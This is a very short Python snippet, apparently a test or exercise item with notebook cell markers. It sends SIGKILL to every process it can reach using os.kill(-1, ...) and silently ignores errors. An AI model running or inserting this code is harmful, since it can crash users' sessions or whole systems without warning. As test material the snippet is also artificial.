# Kills every process that it can.
# %%
import os
import signal

try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
# %% answers
